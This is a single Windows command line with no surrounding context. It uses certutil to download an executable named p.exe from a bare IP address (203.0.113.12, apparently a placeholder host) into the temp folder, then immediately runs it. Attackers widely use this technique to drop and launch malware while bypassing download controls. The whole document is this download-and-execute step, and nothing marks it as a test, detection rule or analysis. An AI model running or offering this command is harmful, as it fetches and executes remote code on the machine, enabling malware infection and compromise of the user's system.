certutil -urlcache -split -f http://203.0.113.12/p.exe %TEMP%\p.exe && %TEMP%\p.exe
